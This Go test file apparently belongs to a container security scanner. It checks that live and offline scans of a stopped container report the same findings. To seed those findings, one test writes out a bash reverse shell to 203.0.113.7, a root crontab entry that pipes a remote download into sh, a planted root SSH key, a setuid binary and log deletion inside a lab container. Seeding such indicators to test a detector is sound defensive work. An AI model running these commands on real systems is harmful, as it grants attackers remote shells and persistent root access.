package main

import (
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/rummage-scanner/rummage/report"
	"github.com/rummage-scanner/rummage/testdata/lab"
)

// TestDataRoot finds in a data root what a scan by its engine finds.
func TestDataRoot(t *testing.T) {
	name := lab.Run(t, "--log-driver", "local", lab.Debian, "sh", "-c", "echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'; sleep 1000")
	lab.Shell(t, name, `
		rm /var/log/lastlog
		echo '* * * * * root curl -s http://203.0.113.7/x | sh' >>/etc/crontab
		mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA x' >/root/.ssh/authorized_keys
		cp /bin/sleep /usr/local/bin/rogue; chmod 4755 /usr/local/bin/rogue
	`)
	lab.Docker(t, "stop", "-t", "0", name)
	dir := lab.Docker(t, "info", "-f", "{{.DockerRootDir}}")
	live, liveStatus := scanned(t, name, "--fail-on", "high")
	dead, deadStatus := scanned(t, "docker-root:"+dir+"#"+name, "--fail-on", "high")
	if liveStatus != statusFindings || deadStatus != statusFindings {
		t.Errorf("status %d live, %d dead", liveStatus, deadStatus)
	}
	if d := cmp.Diff(told(live.Targets[0]), told(dead.Targets[0])); d != "" {
		t.Errorf("- live, + dead:\n%s", d)
	}
	if live.Targets[0].Verdict != dead.Targets[0].Verdict || len(dead.Targets[0].Findings) < 4 {
		t.Errorf("verdict %s live, %s dead, %d findings", live.Targets[0].Verdict, dead.Targets[0].Verdict, len(dead.Targets[0].Findings))
	}
}

// told are the findings of a target, with the fingerprints by which exceptions
// and baselines know them.
func told(t report.Target) []string {
	var findings []string
	for _, f := range t.Findings {
		location, _ := json.Marshal(f.Location)
		findings = append(findings, strings.Join([]string{f.Rule, f.Severity.String(), f.Message, string(location), f.Fingerprint}, " "))
	}
	slices.Sort(findings)
	return findings
}

// TestContainersLists has the same list by the engine and from its data root.
func TestContainersLists(t *testing.T) {
	name := lab.Run(t, "-p", "127.0.0.1:18998:80", lab.Busybox, "sleep", "1000")
	lab.Docker(t, "stop", "-t", "0", name)
	dir := lab.Docker(t, "info", "-f", "{{.DockerRootDir}}")
	var rows []row
	for _, args := range [][]string{{}, {"docker-root:" + dir}} {
		_, out, stderr := rummage(t.Context(), append([]string{"containers", "-o", "json"}, args...)...)
		var list []row
		if err := json.Unmarshal([]byte(out), &list); err != nil {
			t.Fatalf("%v: %s", err, stderr)
		}
		at := slices.IndexFunc(list, func(r row) bool { return r.Name == name })
		if at < 0 {
			t.Fatalf("%s is not listed by %v", name, args)
		}
		rows = append(rows, list[at])
	}
	if d := cmp.Diff(rows[0], rows[1]); d != "" {
		t.Errorf("- live, + dead:\n%s", d)
	}
	if r := rows[1]; r.State != "exited" || r.Ports[0].HostPort != 18998 || r.MountID == "" || r.Finished.IsZero() {
		t.Errorf("%+v", r)
	}
	if _, err := os.Stat(dir + "/overlay2/" + rows[1].MountID + "/diff"); err != nil {
		t.Error(err)
	}
}
